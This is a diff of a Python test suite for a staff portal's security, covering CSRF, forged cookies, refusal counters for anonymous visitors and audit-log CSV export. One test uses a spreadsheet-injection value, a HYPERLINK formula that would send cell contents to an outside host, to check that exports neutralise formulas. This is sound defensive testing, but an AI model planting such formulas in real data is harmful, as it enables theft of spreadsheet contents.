@@ -1,7 +1,8 @@
 """The portal's security, through its HTTP interface (FastAPI's TestClient): every staff route refuses
 anonymous visitors and missing permissions, drafts and rejected revisions never reach a public URL, the
-four-eyes rule, CSRF, cookie flags, login throttling, sessions closed by a password change or a disabling,
-Argon2id hashes only — and an audit line for each refusal."""
+four-eyes rule, CSRF, cookie flags, sessions closed by a password change or a disabling, Argon2id hashes
+only — and an audit line for each refusal (a counter for an anonymous one). Throttling, logout and proxies:
+tests/test_portal_sessions.py."""
 
 from __future__ import annotations
 
@@ -25,7 +26,7 @@ from starlette.routing import Route
 
 from flows.edition.publish import store
 from flows.edition.publish.tables import audit_log, users
-from flows.portal import accounts, audit
+from flows.portal import accounts, audit, refusals
 from flows.portal.runs import RunView
 from flows.portal.staff import LOGIN_REFUSED
 from flows.web import create_app
@@ -105,13 +106,23 @@ def _no_file_bytes(answer) -> None:
     assert not answer.content.startswith((b"%PDF", b"\x89PNG")), answer.request.url
 
 
+def _anonymous_refusals(outputs: Path) -> dict[tuple[str, str], int]:
+    """The counters of anonymous refusals (flows/portal/refusals.py): (address, detail) → refusals."""
+    found: dict[tuple[str, str], int] = {}
+    for count in refusals.latest(store.open_catalogue(outputs).engine, 10_000):
+        found[(count.address, count.detail)] = found.get((count.address, count.detail), 0) + count.count
+    return found
+
+
 def test_every_staff_route_refuses_an_anonymous_visitor(shared: Path):
     """Pages redirect to the login form, files 401; a form sent without a session's token is refused as a
     forgery first (403), and with the anonymous session's token (the login page's) as needing a login (401)."""
     client = _client(shared)
     token = csrf_of(client.get("/staff/login").text)  # the anonymous session the login page opened
     before = len(audit_lines(shared, audit.ACCESS))
-    refused = 0
+    counted = _anonymous_refusals(shared).get(("testclient", "connexion requise"), 0)
+    forgeries = _anonymous_refusals(shared).get(("testclient", "jeton CSRF absent ou faux"), 0)
+    refused = forged = 0
     for method, path in _staff_routes(client):
         if path == "/staff/login":
             continue
@@ -133,12 +144,13 @@ def test_every_staff_route_refuses_an_anonymous_visitor(shared: Path):
             logged_out = client.request(method, path, data={"csrf": token}, follow_redirects=False)
             assert logged_out.status_code == 401, (method, path, logged_out.status_code)
             assert "Connexion requise" in logged_out.text
-            refused += 2
-    after = audit_lines(shared, audit.ACCESS)
-    lines = after[: len(after) - before]
-    assert len(lines) == refused
-    assert all(e.actor == "anonyme" and e.outcome == audit.REFUSED and e.address == "testclient" for e in lines)
-    assert {e.detail for e in lines} == {"connexion requise", "jeton CSRF absent ou faux"}
+            refused += 1
+            forged += 1
+    # each refusal counted (per hour, address and URL), none an audit line: anonymous traffic is bounded
+    found = _anonymous_refusals(shared)
+    assert found[("testclient", "connexion requise")] - counted == refused
+    assert found[("testclient", "jeton CSRF absent ou faux")] - forgeries == forged > 0
+    assert len(audit_lines(shared, audit.ACCESS)) == before
 
 
 def test_an_editor_sees_drafts_but_neither_sign_off_nor_administration(shared: Path):
@@ -375,10 +387,13 @@ def test_the_setting_is_changed_by_an_administrator_only(private: Path, who: str
     from flows.edition.publish import settings
 
     assert settings.self_approval(store.open_catalogue(private).engine, REGION) is False
-    line = audit_lines(private, audit.ACCESS)[1]  # the POST's refusal, then the page's
-    assert (line.actor, line.outcome, line.target) == (who or "anonyme", audit.REFUSED, "POST /staff/admin/reglages")
     if who:
+        line = audit_lines(private, audit.ACCESS)[1]  # the POST's refusal, then the page's
+        assert (line.actor, line.outcome, line.target) == (who, audit.REFUSED, "POST /staff/admin/reglages")
         assert line.detail.startswith("réservé à qui peut changer les réglages de l'agence (compte ")
+    else:  # anonymous: counted (flows/portal/refusals.py)
+        targets = {c.target for c in refusals.latest(store.open_catalogue(private).engine, 10_000)}
+        assert {"POST /staff/admin/reglages", "GET /staff/admin/reglages"} <= targets
     assert audit_lines(private, audit.SETTING) == []
 
 
@@ -442,8 +457,9 @@ def test_a_new_route_without_any_csrf_code_refuses_a_request_without_the_token(f
     client, received = _app_with_a_new_route(fresh, method, "/essai")
     answer = client.request(method, "/essai", data={"montant": "1"})
     assert answer.status_code == 403 and "Formulaire expiré ou invalide" in answer.text
-    line = audit_lines(fresh, audit.ACCESS)[0]
-    assert (line.actor, line.target, line.detail) == ("anonyme", f"{method} /essai", "jeton CSRF absent ou faux")
+    assert _anonymous_refusals(fresh) == {("testclient", "jeton CSRF absent ou faux"): 1}  # anonymous: counted
+    [count] = refusals.latest(store.open_catalogue(fresh).engine, 10)
+    assert (count.action, count.target) == (audit.ACCESS, f"{method} /essai")
 
     staff, received = _app_with_a_new_route(fresh, method, "/staff/essai")
     token = log_in(staff, ADMIN)
@@ -489,7 +505,7 @@ def test_the_login_form_needs_its_token_too(fresh: Path):
     client.get("/staff/login")
     answer = client.post("/staff/login", data={"name": ADMIN, "password": PASSWORD})
     assert answer.status_code == 403
-    assert audit_lines(fresh, audit.ACCESS)[0].detail == "jeton CSRF absent ou faux"
+    assert _anonymous_refusals(fresh) == {("testclient", "jeton CSRF absent ou faux"): 1}
     assert client.get("/staff/", follow_redirects=False).status_code == 303  # not logged in
 
 
@@ -524,7 +540,8 @@ def test_an_altered_or_foreign_cookie_is_no_session(fresh: Path, monkeypatch: py
     log_in(client, ADMIN)
     genuine = client.cookies.get(COOKIE)
     assert client.get("/staff/", follow_redirects=False).status_code == 200
-    forged = Sessions("not the portal's secret")._serializer.dumps({"c": "x", "a": ADMIN, "v": 1})
+    engine = store.open_catalogue(fresh).engine
+    forged = Sessions("not the portal's secret", engine)._serializer.dumps({"c": "x", "a": ADMIN, "v": 1, "k": "x"})
     for value in (genuine[:-2] + ("AA" if not genuine.endswith("AA") else "BB"), forged):
         other = _client(fresh)
         other.cookies.set(COOKIE, value, path="/staff")
@@ -574,34 +591,13 @@ def test_an_unknown_name_a_wrong_password_and_a_disabled_account_read_the_same(f
     for name, password in (("nobody", PASSWORD), ("d.disabled", PASSWORD), (ADMIN, "wrong password!")):
         answer = _try(client, name, password)
         assert (answer.status_code, _alert(answer)) == (401, SAME)
-    lines = audit_lines(fresh, audit.LOGIN)
-    assert [(e.target, e.outcome, e.detail) for e in lines] == [
-        (ADMIN, audit.REFUSED, "identifiants refusés"),
-        ("d.disabled", audit.REFUSED, "identifiants refusés"),
-        ("nobody", audit.REFUSED, "identifiants refusés"),
+    assert audit_lines(fresh, audit.LOGIN) == []  # anonymous: counted, per name typed
+    counts = refusals.latest(store.open_catalogue(fresh).engine)
+    assert sorted((c.target, c.count, c.detail) for c in counts if c.action == audit.LOGIN) == [
+        (ADMIN, 1, "identifiants refusés"),
+        ("d.disabled", 1, "identifiants refusés"),
+        ("nobody", 1, "identifiants refusés"),
     ]
-
-
-def test_after_ten_wrong_passwords_the_right_one_is_refused_with_the_same_message(fresh: Path):
-    client = _client(fresh)
-    for _ in range(10):
-        answer = _try(client, ADMIN, "wrong password!")
-        assert (answer.status_code, _alert(answer)) == (401, SAME)
-    answer = _try(client, ADMIN, PASSWORD)
-    assert (answer.status_code, _alert(answer)) == (401, SAME)
-    assert client.get("/staff/", follow_redirects=False).status_code == 303
-    lines = audit_lines(fresh, audit.LOGIN)
-    assert len(lines) == 11 and all(e.outcome == audit.REFUSED and e.address == "testclient" for e in lines)
-    assert lines[0].detail.startswith("trop d'essais (10 pour ce nom, 10 depuis cette adresse")
-    assert all(e.detail == "identifiants refusés" for e in lines[1:])
-
-
-def test_refusals_by_name_count_from_any_address(fresh: Path):
-    engine = store.open_catalogue(fresh).engine
-    for attempt in range(10):
-        audit.record(engine, ADMIN, f"192.0.2.{attempt}", audit.LOGIN, ADMIN, audit.REFUSED, "identifiants refusés")
-    assert _try(_client(fresh), ADMIN, PASSWORD).status_code == 401
-    assert _try(_client(fresh), EDITOR_ACCOUNT, PASSWORD).status_code == 303  # another name is not locked
 
 
 def test_a_password_change_or_a_disabling_closes_open_sessions(fresh: Path):
@@ -678,7 +674,9 @@ def test_an_admin_disables_an_account_but_not_its_own(fresh: Path):
 
 def test_the_audit_log_page_filters_and_exports(fresh: Path):
     client = _client(fresh)
-    client.get("/staff/admin/audit")  # anonymous: refused, and recorded
+    log_in(client, EDITOR_ACCOUNT)
+    client.get("/staff/admin/audit")  # an editor: refused, and recorded
+    client = _client(fresh)
     log_in(client, ADMIN)
     page = client.get("/staff/admin/audit", params={"action": "login"}).text
     assert "connexion" in page and "accès refusé</td>" not in page
@@ -695,13 +693,12 @@ def test_a_formula_typed_as_a_login_name_is_exported_as_text(fresh: Path):
     """A refused login records the name typed; in the CSV export it never becomes a live formula."""
     typed = '=HYPERLINK("http://example.org/?"&A1,"x")'
     client = _client(fresh)
-    form = client.get("/staff/login")
-    data = {"name": typed, "password": "faux", "csrf": csrf_of(form.text), "next": "/staff/"}
-    assert client.post("/staff/login", data=data, follow_redirects=False).status_code != 303
-    log_in(client, ADMIN)
-    exported = client.get("/staff/admin/audit.csv", params={"action": "login"}).content.decode("utf-8-sig")
+    csrf = log_in(client, ADMIN)
+    data = {"name": typed, "role": "editor", "password": "a long enough passphrase", "csrf": csrf}
+    assert client.post("/staff/admin/accounts", data=data, follow_redirects=False).status_code == 400
+    exported = client.get("/staff/admin/audit.csv", params={"action": "account"}).content.decode("utf-8-sig")
     cells = [cell for row in csv.reader(io.StringIO(exported), delimiter=";") for cell in row]
-    assert "'" + typed.lower() in cells  # the name as recorded (lower case), behind the apostrophe
+    assert "'" + typed in cells  # the name as recorded, behind the apostrophe
     assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
 
 
@@ -755,14 +752,14 @@ def test_launching_a_build_is_refused_to_whom_may_not(private: Path, monkeypatch
     lines = audit_lines(private, audit.BUILD)
     builds = [(e.actor, e.outcome) for e in lines[: len(lines) - earlier]]
     assert builds == [(EDITOR_ACCOUNT, audit.FAILED)] + [(EDITOR_ACCOUNT, audit.REFUSED)] * 5
-    access = [(e.actor, e.detail) for e in audit_lines(private, audit.ACCESS)[:5]]
+    access = [(e.actor, e.detail) for e in audit_lines(private, audit.ACCESS)[:3]]
     assert access == [
         (EDITOR_ACCOUNT, "jeton CSRF absent ou faux"),
         (EDITOR_ACCOUNT, "jeton CSRF absent ou faux"),
         (APPROVER_ACCOUNT, "réservé à qui peut lancer les constructions (compte approbateur)"),
-        ("anonyme", "connexion requise"),
-        ("anonyme", "jeton CSRF absent ou faux"),
     ]
+    assert _anonymous_refusals(private)[("testclient", "connexion requise")] >= 1  # the anonymous one: counted
+    assert _anonymous_refusals(private)[("testclient", "jeton CSRF absent ou faux")] >= 1  # and its forgery
 
 
 def test_a_launched_build_is_followed_on_its_run_page(shared: Path):
